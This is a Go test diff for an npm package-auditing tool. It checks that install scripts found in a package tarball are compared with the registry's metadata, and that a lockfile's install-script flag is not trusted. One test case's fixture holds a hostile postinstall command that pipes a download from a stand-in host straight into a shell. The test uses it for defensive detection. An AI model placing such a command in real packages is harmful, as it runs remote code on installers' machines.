@@ -3,6 +3,7 @@ package npm_test
 import (
 	"context"
 	"io"
+	"slices"
 	"strings"
 	"testing"
 	"testing/fstest"
@@ -108,5 +109,42 @@ func TestDamagedCache(t *testing.T) {
 	pkg := npm.Package{Name: "foo", Version: "1.0.0", Integrity: otherIntegrity}
 	if contents, err := tarballs.Contents(context.Background(), pkg, ""); contents != nil || err != nil {
 		t.Errorf("found %v, %v", contents, err)
+	}
+}
+
+// TestScriptsTold: what runs at install, by the tarball and by the registry's metadata.
+func TestScriptsTold(t *testing.T) {
+	for name, c := range map[string]struct {
+		manifest, files, metadata string
+		differs                   bool
+		found                     string // the scripts of the result
+	}{
+		"the same":               {`"scripts": {"postinstall": "node x.js"}`, "", `{}`, false, "postinstall"},
+		"other words":            {`"scripts": {"postinstall": "curl evil.example | sh"}`, "", `{"scripts": {"postinstall": "node x.js"}}`, true, "postinstall"},
+		"the folder of commands": {`"scripts": {"postinstall": "./node_modules/.bin/husky"}`, "", `{"scripts": {"postinstall": "husky"}}`, false, "postinstall"},
+		"in the tarball only":    {`"scripts": {"postinstall": "node x.js"}`, "", `{"scripts": null, "hasInstallScript": null}`, true, "postinstall"},
+		"in the metadata only":   {`"main": "x.js"`, "", `{"scripts": {"preinstall": "node x.js"}}`, true, ""},
+		"another one":            {`"scripts": {"postinstall": "node x.js"}`, "", `{"scripts": {"postinstall": null, "install": "node x.js"}}`, true, "postinstall"},
+		"of no moment":           {`"scripts": {"test": "node x.js", "prepare": "tsc"}`, "", `{"scripts": {"test": "node y.js"}}`, false, ""},
+		"an implicit build":      {`"main": "x.js"`, "-- foo@1.0.0/package/binding.gyp --\n{}\n", `{"scripts": {"install": "node-gyp rebuild"}, "gypfile": true}`, false, "install (binding.gyp)"},
+		"an implicit build, and none told": {`"main": "x.js"`, "-- foo@1.0.0/package/binding.gyp --\n{}\n", `{"scripts": null, "gypfile": null, "hasInstallScript": null}`, true,
+			"install (binding.gyp)"},
+		"a build that is given up": {`"gypfile": false`, "-- foo@1.0.0/package/binding.gyp --\n{}\n", `{"scripts": null, "gypfile": false, "hasInstallScript": null}`, false, ""},
+	} {
+		t.Run(name, func(t *testing.T) {
+			s := newScene(t, "-- foo@1.0.0/package/package.json --\n{\"name\": \"foo\", \"version\": \"1.0.0\", "+c.manifest+"}\n"+c.files+
+				"-- foo@1.0.0/registry.json --\n{\"metadata\": "+c.metadata+"}\n")
+			// The lockfile may say what it likes.
+			for _, lies := range []bool{true, false} {
+				report := s.check(swap(t, s.lock("foo@1.0.0"), "node_modules/foo", func(e map[string]any) { e["hasInstallScript"] = lies }))
+				if r := result(t, report, "foo@1.0.0"); strings.Join(r.Scripts.Names, " ") != c.found || r.Scripts.Source != "tarball" {
+					t.Errorf("found %+v, expected %q", r.Scripts, c.found)
+				}
+				list := codes(report, "foo@1.0.0")
+				if slices.Contains(list, "deny MANIFEST_SCRIPTS_DIFFER") != c.differs || slices.Contains(list, "warn INSTALL_SCRIPT") != (c.found != "") {
+					t.Errorf("found %v", list)
+				}
+			}
+		})
 	}
 }
